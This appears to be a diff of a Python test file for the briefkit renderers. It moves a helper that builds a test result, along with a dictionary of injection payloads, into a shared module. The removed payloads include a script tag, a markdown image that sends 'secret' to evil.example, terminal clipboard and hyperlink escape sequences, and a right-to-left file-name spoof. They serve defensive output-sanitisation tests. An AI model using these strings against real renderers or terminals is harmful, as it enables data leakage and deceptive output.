@@ -26,98 +26,28 @@ from briefkit.render import (
 )
 from briefkit.render.layout import beside, clip, columns_of, wrap
 from briefkit.schema import (
-    Abstention,
-    Analysis,
     Article,
     Attribution,
-    Brief,
     Correction,
     Cost,
     Finding,
     HumanReview,
-    KeyPoint,
-    NameMention,
-    Position,
-    Provenance,
-    Question,
-    Questions,
     Quotation,
     Result,
     Severity,
-    Signal,
-    Stake,
-    Statement,
     Tags,
-    Unknown,
     Usage,
 )
+from tests.payloads import PAYLOADS, made_of
 
 UTC = datetime.UTC
 DATA = Path(__file__).parent / "data"
 RESULT = Result.model_validate_json((DATA / "result.json").read_bytes())
-PLACES: tuple[tuple[Severity, str], ...] = (
-    ("error", "headline"),
-    ("warning", "signals[0].when"),
-    ("note", ""),  # stands for the payload
-)
 BIDI_AND_TAGS = {*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xE0000, 0xE0080)}
 
 
 def _with(result: Result, **changes: Any) -> Result:
     return result.model_copy(update=changes)
-
-
-def _made(payload: str) -> Result:
-    """Return a result in which every free text is the payload, the article's too."""
-    article = Article(text=payload * 2, headline=payload, publisher=payload, url=payload)
-    spans = [article.span(0, len(payload))]
-    said: dict[str, Any] = {"text": payload, "evidence": spans}
-    question = Question(**said, why_open=payload, who_could_answer=[payload], settled_by=payload)
-    attribution = Attribution(speaker=payload, form="on_record", verb=payload, via=payload)
-    made = Provenance(
-        briefkit="1", article_sha256=article.sha256, notes=[payload], model_asked=payload, host=payload
-    )
-    brief = Brief(
-        article_sha256=article.sha256,
-        language="en",
-        headline=Statement(**said),
-        dek=Statement(**said, basis="inferred"),
-        lede=Abstention(abstained=payload),
-        key_points=[
-            KeyPoint(**said, role="watch", attribution=attribution, status="claimed", hedge=payload)
-            for _ in range(4)
-        ],
-        stakes=[Stake(**said, party=payload, group="public")],
-        questions=Questions(financial=question, operating=question, customer=Abstention(abstained=payload)),
-        signals=[
-            Signal(**said, threshold=payload, when=payload, where_seen=payload, if_yes=payload, if_no=payload)
-        ],
-        analysis=Analysis(
-            context=Statement(**said),
-            pressure_point=Statement(**said),
-            differs=Abstention(abstained=payload),
-            practical_read=Statement(**said),
-        ),
-        other_side=[Position(**said, holder=payload)],
-        unknowns=[Unknown(**said, how="declined")],
-        names=[NameMention(name=payload, span=spans[0], count=1)],
-        quotes=[Quotation(span=spans[0], speaker=payload)],
-        tags=Tags(),
-        provenance=made,
-    )
-    findings = [
-        Finding(
-            code="x.y",
-            severity=severity,
-            path=path or payload,
-            message=payload,
-            hint=payload,
-            nearest=spans[0],
-            offending=payload,
-        )
-        for severity, path in PLACES
-    ]
-    return Result(status="review", brief=brief, findings=findings, article=article, provenance=made)
 
 
 def _assert_shows_only_text(output: str) -> None:
@@ -140,7 +70,7 @@ def _assert_safe_markdown(markdown: str) -> None:
 
 
 def _all_outputs(payload: str) -> None:
-    result = _made(payload)
+    result = made_of(payload)
     failed = _with(result, status="failed", brief=None)
     for shown in (result, failed):
         for output in (
@@ -174,49 +104,14 @@ def test_no_renderer_lets_anything_but_text_through(payload: str) -> None:
     _all_outputs(payload)
 
 
-PAYLOADS = {
-    "script": "<script>alert(1)</script>",
-    "image": "![x](https://evil.example/?q=secret)",
-    "reference": "[x][1]\n\n[1]: https://evil.example",
-    "autolink": "<https://evil.example> www.evil.example a@evil.example http://e.example/<b>`x`",
-    "entity": "&lt;script&gt; &#60;b&#x3e; AT&T",
-    "heading": "# not a heading",
-    "list": "- not\n- a list",
-    "number": "1. not a list",
-    "rule": "---",
-    "setext": "text\n===",
-    "fence": "```\ncode\n```",
-    "indent": "        code",
-    "table": "| a | b |\n|---|---|",
-    "backslash": "a\\",
-    "colour": "\x1b[31mred\x1b[0m",
-    "clipboard": "\x1b]52;c;aGVsbG8=\x07",
-    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
-    "c1": "\x9b31m",
-    "override": "\u202egnp.exe",
-    "tags": "".join(chr(0xE0000 + ord(char)) for char in "hidden"),
-    "surrogate": "\ud800",
-    "rich": "[bold]x[/bold][link=https://e.example]y[/link]",
-    "return": "safe\roverwritten",
-}
-
-
 @pytest.mark.parametrize("name", PAYLOADS)
 def test_an_attack_on_a_sink_comes_out_as_text(name: str) -> None:
     _all_outputs(PAYLOADS[name])
 
 
-def _attacks() -> Path:
-    given_corpus = os.environ.get("BRIEFKIT_CORPUS")
-    shared = Path(given_corpus).parent if given_corpus else Path(__file__).parents[2] / "shared"
-    return shared / "attacks" / "output_payloads.jsonl"
-
-
-@pytest.mark.skipif(not _attacks().is_file(), reason="the collected payloads are not here")
-def test_the_collected_payloads_come_out_as_text() -> None:
-    for line in _attacks().read_text(encoding="utf-8").splitlines():
-        if payload := json.loads(line)["payload"]:
-            _all_outputs(payload)
+def test_the_collected_payloads_come_out_as_text(collected_payloads: list[str]) -> None:
+    for payload in collected_payloads:
+        _all_outputs(payload)
 
 
 # Escapes
